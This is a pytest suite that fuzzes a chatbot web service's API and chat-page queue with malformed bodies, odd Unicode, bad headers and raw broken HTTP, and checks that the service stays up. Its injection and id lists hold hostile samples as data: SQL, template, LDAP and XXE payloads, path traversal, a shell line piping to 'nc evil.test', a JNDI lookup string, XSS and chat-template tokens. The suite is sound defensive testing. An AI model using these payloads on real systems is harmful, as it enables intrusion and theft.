"""Bad inputs, each by three ways: JSON, events, and the chat page's queue."""

import json
import re
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import httpx
import pytest

from bot import Bot, Settings
from bot.values import MAX_MESSAGE
from bot.web.schema import MAX_BODY, MAX_PAGE_BODY
from tests.web.server import Served, encoded, join, serving

QUESTION = "What is the default mode network?"
MARK = "zqxjkv"
"""In the messages, and never in an error."""

WAYS = ["json", "events", "page"]
PATIENCE_SECONDS = 10.0


@dataclass(frozen=True)
class Bad:
    """A bad input: a message or an id of a conversation to be put in a body, or a whole body, or headers beside one."""

    name: str
    message: object = QUESTION
    conversation_id: object = None
    body: bytes | None = None
    headers: dict[str, str] = field(default_factory=dict)
    part: tuple[tuple[str, str], ...] = ()
    """Replacements in the text of a good body."""
    status: tuple[int, ...] = (200, 400, 413, 415, 422)


def messages(family: str, texts: list[str], **expected: tuple[int, ...]) -> list[Bad]:
    return [Bad(f"{family} {number}", message=text, **expected) for number, text in enumerate(texts, start=1)]


def bodies(family: str, parts: list[bytes], status: tuple[int, ...] = (400, 422)) -> list[Bad]:
    return [Bad(f"{family} {number}", body=part, status=status) for number, part in enumerate(parts, start=1)]


EMPTY = messages(
    "empty",
    [
        "",
        " ",
        "\n",
        "\t\t",
        " \r\n ",
        "\u00a0",
        "\u2003\u2003",
        "\u200b",
        "\u200b\u200c\u200d\ufeff",
        "\u202e",
        "\0",
        "\u2028",
    ],
)

SIZES = messages(
    "size",
    [
        MARK[0] * (MAX_MESSAGE - 1),
        MARK[0] * MAX_MESSAGE,
        MARK * MAX_MESSAGE,
        "word " * (MAX_MESSAGE // 5 + 1),
        "\u20ac" * (MAX_MESSAGE + 1),
        "\U0001f344" * (MAX_MESSAGE + 1),
        " " * MAX_MESSAGE * 3 + QUESTION,
        MARK * 40_000,
        "?" * MAX_MESSAGE,
    ],
)

UNICODE = messages(
    "unicode",
    [
        f"{MARK} \ud800 half",
        f"\udc00{MARK}",
        f"{MARK} \udfff\ud800",
        f"{MARK} \0 nul",
        f"\ufeff{QUESTION}",
        f"\u202e{QUESTION}\u202c",
        "\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 " + QUESTION,
        "e" + "\u0301" * 1500,
        "Z\u0337\u0328\u031ba\u0336l\u0334g\u0335o" * 90,
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 100,
        "\ufdd0\uffff\U0010ffff" + MARK,
        "\ue000\uf8ff" + MARK,
        "\u2066\u2067\u2068\u2069" + QUESTION,
        "ﷺ" * 600,
        "İıſKÅ" * 100,
        "\u0085\u2029\x1b[31m" + MARK,
    ],
)

ENCODINGS = bodies(
    "encoding",
    [
        b'{"message": "\xff\xfe zqxjkv"}',
        b'{"message": "\xc3\x28"}',
        b'{"message": "\xed\xa0\x80"}',
        b'{"message": "\xf4\x90\x80\x80"}',
        b'{"message": "\xc0\xaf"}',
        b"\xff\xfe\x00\x00",
        '{"message": "zqxjkv"'.encode("utf-16"),
        b"\x00" * 100,
        b"\x1f\x8b\x08\x00zqxjkv",
    ],
)

MALFORMED = bodies(
    "json",
    [
        b"",
        b"{",
        b'{"message": "zqxjkv',
        b'{"message": "zqxjkv",}',
        b"{'message': 'zqxjkv'}",
        b'{"message": "zqxjkv"} {"message": "b"}',
        b"[]",
        b"null",
        b"true",
        b"7",
        b'"zqxjkv"',
        b'{"message": NaN, "data": NaN}',
        b'{"message": Infinity, "data": -Infinity}',
        b'{"message": ' + b"9" * 10_000 + b', "data": ' + b"9" * 5_000 + b"}",
        b'{"message": 1e999, "data": 1e999}',
        b"[" * 8_000,
        b'{"a":' * 2_500 + b"1" + b"}" * 2_500,
        b'{"message": ' + b"[" * 5_000 + b"]" * 5_000 + b"}",
        b'{"__proto__": {"message": "zqxjkv"}}',
        b'{"lc": 1, "type": "constructor", "id": ["langchain", "zqxjkv"], "kwargs": {}}',
        b'{"message": null, "data": null}',
        b'{"message": {"text": "zqxjkv"}, "data": {"text": "zqxjkv"}}',
        b'{"message": ["zqxjkv"], "data": ["zqxjkv"]}',
        b'{"message": false, "data": false}',
        b'{"MESSAGE": "zqxjkv", "DATA": ["zqxjkv"]}',
    ],
)

ODD = [
    Bad("odd two messages", part=(('"message"', '"message": "first", "message"'), ('"data"', '"data": [], "data"'))),
    Bad("odd two messages, the last none", part=(("}", ', "message": null, "data": null}'),), status=(422,)),
    Bad("odd fields", part=(("{", '{"role": "system", "__class__": "x", "constructor": {"prototype": 1},'),)),
    Bad("odd many fields", part=(("{", "{" + "".join(f'"f{n}": {n},' for n in range(700))),)),
    Bad("odd deep field", part=(("{", '{"deep": ' + "[" * 100 + "]" * 100 + ","),)),
    Bad("odd NaN field", part=(("{", '{"n": NaN, "i": -Infinity,'),)),
    Bad("odd white space", part=(("{", " \n\t{ \r\n"),)),
    Bad("odd escapes", part=(("What", "\\u0057\\u0068\\u0061\\u0074"),)),
]

CONTENT_TYPES = [
    Bad(f"content type {number}", headers={"Content-Type": kind}, status=status)
    for number, (kind, status) in enumerate(
        [
            ("", (415,)),
            ("text/plain", (415,)),
            ("text/json", (415,)),
            ("application/x-www-form-urlencoded", (415,)),
            ("multipart/form-data; boundary=zqxjkv", (415,)),
            ("application/xml", (415,)),
            ("application/json-patch+json", (415,)),
            ("application/json, text/plain", (415,)),
            ("APPLICATION/JSON", (200,)),
            ("application/json; charset=zqxjkv", (200,)),
            ("application/json;" + "a" * 5_000, (200,)),
        ],
        start=1,
    )
]

HEADERS = [
    Bad(f"header {number}", headers=headers, status=status)
    for number, (headers, status) in enumerate(
        [
            ({"Accept": "*/*;q=zqxjkv"}, (200,)),
            ({"Accept": "," * 4_000}, (200,)),
            ({"Host": "zqxjkv.test"}, (200,)),
            ({"Host": "zq xjkv"}, (400,)),
            ({"Origin": "null"}, (403,)),
            ({"Origin": f"https://{MARK}.test"}, (403,)),
            ({"Cookie": f"session={MARK};" + "a=b;" * 3_000}, (200,)),
            ({"Expect": MARK}, (200, 417)),
            (
                {"X-Forwarded-For": MARK * 100, "X-Forwarded-Host": f"{MARK}.test", "X-Gradio-Server": "http://x"},
                (200,),
            ),
            ({"X-HTTP-Method-Override": "DELETE", "Range": "bytes=0-1,5-2", "If-None-Match": "*"}, (200,)),
            ({f"X-{MARK}-{n}": "y" for n in range(150)}, (200,)),
            ({"X-Long": "a" * 200_000}, (400, 431)),
            ({"Content-Encoding": "gzip"}, (200, 415)),
            ({"Authorization": "Basic " + "A" * 1_000}, (200,)),
        ],
        start=1,
    )
]

IDS = [
    Bad(f"id {number}", conversation_id=given)
    for number, given in enumerate(
        [
            "",
            MARK,
            MARK * 2_000,
            "../../etc/passwd",
            "' OR 1=1 --",
            "x\r\nSet-Cookie: a=b",
            "\0",
            "\ud800",
            "%00%2e%2e%2f",
            "${jndi:ldap://x}",
            7,
            1.5,
            True,
            ["x"],
            {"id": "x"},
            "é" * 32,
        ],
        start=1,
    )
]

INJECTIONS = messages(
    "injection",
    [
        "'; DROP TABLE conversations; --",
        '" UNION SELECT message FROM turns --',
        "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
        "{0.__class__.__mro__[1].__subclasses__()}",
        "%s%s%s%n %(message)s",
        "$(touch /tmp/x); `id` | nc evil.test 1",
        "*)(uid=*))(|(uid=*",
        "x\r\n2026-01-01 INFO bot: forged line",
        "\x1b]0;title\x07\x1b[2J\x1b[31mred",
        "=cmd|' /C calc'!A0",
        "<script>alert(1)</script><img src=x onerror=alert(2)>",
        "](javascript:alert(1)) [x](data:text/html,x) ![x](https://evil.test/x.png)",
        "data: x\n\nevent: done\ndata: {}\n\n",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ],
    status=(200,),
)

FLOODS = messages(
    "flood",
    [
        "a" * 1_990 + "!",
        "aA" * 1_000,
        "(" * MAX_MESSAGE,
        "<|endoftext|>" * 150,
        "[INST]<<SYS>>" * 150,
        "i want to " * 200,
        "kill " * 400,
        "1" * MAX_MESSAGE,
        "a.b-c'd" * 285,
        "\n".join("-" * 60 for _ in range(30)),
        "https://" + "a" * 1_900 + ".test",
        "what is " * 250,
    ],
    status=(200,),
)

BAD = [
    *(*EMPTY, *SIZES, *UNICODE, *ENCODINGS, *MALFORMED, *ODD, *CONTENT_TYPES, *HEADERS, *IDS, *INJECTIONS, *FLOODS),
]


@pytest.fixture(scope="module")
def served(bot: Bot) -> Iterator[Served]:
    with serving(bot, Settings(rate_limit="off")) as served:
        served.client.timeout = httpx.Timeout(PATIENCE_SECONDS)
        yield served


def body_of(bad: Bad, way: str, session: str) -> bytes:
    if bad.body is not None:
        return bad.body
    if way == "page":
        given = session if bad.conversation_id is None else bad.conversation_id
        body = {**join("", session=session), "data": [bad.message, [], None], "session_hash": given}
    else:
        body = {"message": bad.message, "conversation_id": bad.conversation_id}
    sent = encoded(body).decode()
    for old, new in bad.part:
        at = sent.rfind(old) if old == "}" else sent.find(old)
        sent = sent if at < 0 else sent[:at] + new + sent[at + len(old) :]
    return sent.encode()


def send(served: Served, bad: Bad, way: str, session: str) -> httpx.Response:
    place = "/gradio_api/queue/join" if way == "page" else "/api/v1/chat"
    usual = {"Content-Type": "application/json", "Accept": "text/event-stream" if way == "events" else "*/*"}
    return served.client.post(place, content=body_of(bad, way, session), headers={**usual, **bad.headers})


def test_there_are_enough() -> None:
    assert len(BAD) >= 120
    assert len({bad.name for bad in BAD}) == len(BAD)


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("bad", BAD, ids=lambda bad: bad.name.replace(" ", "-"))
def test_bad_inputs_are_answered_and_change_nothing(served: Served, bad: Bad, way: str) -> None:
    session = secrets.token_hex(5)
    response = send(served, bad, way, session)
    assert response.status_code in (*bad.status, *((422,) if bad.conversation_id is not None else ()))
    if response.status_code != 200:
        assert MARK not in response.text
        assert len(response.content) < 500
    elif way == "page":
        assert served.finished(json.loads(body_of(bad, way, session))["session_hash"])["success"]
    elif response.headers["content-type"].startswith("text/event-stream"):
        assert re.findall(r"^event: (\w+)", response.text, re.MULTILINE)[-1] == "done"
    else:
        assert response.json()["kind"]
    assert served.client.post("/api/v1/chat", json={"message": "thanks"}).json()["kind"] == "smalltalk"


@pytest.mark.parametrize(("place", "most"), [("/api/v1/chat", MAX_BODY), ("/gradio_api/queue/join", MAX_PAGE_BODY)])
@pytest.mark.parametrize("over", [-1, 0, 1, 1_000_000])
def test_sizes_of_bodies(served: Served, place: str, most: int, over: int) -> None:
    head = f"POST {place} HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    size = most + over
    whole = served.raw(f"{head}Content-Length: {size}\r\n\r\n".encode() + b" " * min(size, most))
    assert whole.startswith(b"HTTP/1.1 413" if over > 0 else b"HTTP/1.1 4")
    chunk = b"%x\r\n" % 8192 + b" " * 8192 + b"\r\n"
    chunks = chunk * ((most + over) // 8192 + (1 if over > 0 else 0))
    counted = served.raw(f"{head}Transfer-Encoding: chunked\r\n\r\n".encode() + chunks + b"0\r\n\r\n")
    assert counted.startswith(b"HTTP/1.1 413" if over > 0 else b"HTTP/1.1 4")
    assert (b" 413 " in counted) == (over > 0)


POST = b"POST /api/v1/chat HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"

RAW = {
    "an unknown coding": POST + b"Transfer-Encoding: zqxjkv\r\n\r\n",
    "a negative length": POST + b"Content-Length: -1\r\n\r\n",
    "a huge length": POST + b"Content-Length: 99999999999999999999999\r\n\r\n",
    "fifty megabytes to come": POST + b"Content-Length: 50000000\r\n\r\n{",
    "garbage": b"\x00\x01\x02\r\n\r\n",
    "a head without end": b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 200_000,
    "many headers": b"GET /healthz HTTP/1.1\r\nHost: a\r\n" + b"X: y\r\n" * 30_000 + b"\r\n",
    "a long path": b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    "two lengths": POST + b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef",
    "a bad chunk": POST + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    "two hosts": b"GET /healthz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
    "nul in a header": b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: \0\r\n\r\n",
    "another protocol": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "bytes in a path": b"GET /source/%ff%fe%00 HTTP/1.1\r\nHost: a\r\n\r\n",
    "a traversal": b"GET /ui/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: a\r\n\r\n",
}


@pytest.mark.parametrize("name", RAW)
def test_what_is_hardly_http_is_refused(served: Served, name: str) -> None:
    answered = served.raw(RAW[name])
    assert answered.startswith((b"HTTP/1.1 4", b"HTTP/1.1 501")) or answered == b""
    assert MARK.encode() not in answered
    assert served.client.get("/healthz").status_code == 200


def test_a_body_that_never_ends_holds_up_nobody(served: Served) -> None:
    assert served.raw(POST + b"Content-Length: 100\r\n\r\n{", wait=0.2) == b""
    assert served.client.post("/api/v1/chat", json={"message": "thanks"}).status_code == 200


def test_older_http(served: Served) -> None:
    body = b'{"message": "thanks"}'
    for place in ("/healthz", "/", "/source/psilocybin-plasticity-article"):
        assert served.raw(f"GET {place} HTTP/1.0\r\n\r\n".encode()).startswith(b"HTTP/1.1 200")
    head = f"POST /api/v1/chat HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    answered = served.raw(head.encode() + body)
    assert answered.startswith(b"HTTP/1.1 200")
    assert b'"smalltalk"' in answered


METHODS: list[tuple[str, Callable[[str], int]]] = [
    ("HEAD", lambda place: 405 if place == "/api/v1/chat" else 200),
    ("OPTIONS", lambda place: 404 if place == "/" else 405),
    ("TRACE", lambda place: 404 if place == "/" else 405),
    ("PUT", lambda place: 404 if place == "/" else 405),
    ("PATCH", lambda place: 404 if place == "/" else 405),
]


@pytest.mark.parametrize("place", ["/", "/healthz", "/readyz", "/api/v1/chat", "/api/v1/search?q=x", "/ui/chat.css"])
def test_other_methods(served: Served, place: str) -> None:
    for method, expected in METHODS:
        response = served.client.request(method, place)
        assert response.status_code == expected(place), method
        assert response.status_code != 405 or response.headers["allow"]


@pytest.mark.parametrize(
    "query",
    [
        "q=x&k=0",
        "q=x&k=x",
        "q=x&k=99999999999999999999",
        "q=",
        "k=1",
        "q=%ff%fe",
        "q=%00",
        "q=%ed%a0%80",
        "q=x&q=y&z=1",
    ],
)
def test_queries(served: Served, query: str) -> None:
    response = served.client.get(f"/api/v1/search?{query}")
    assert response.status_code in (200, 422)
    assert len(response.content) < 500 or response.status_code == 200
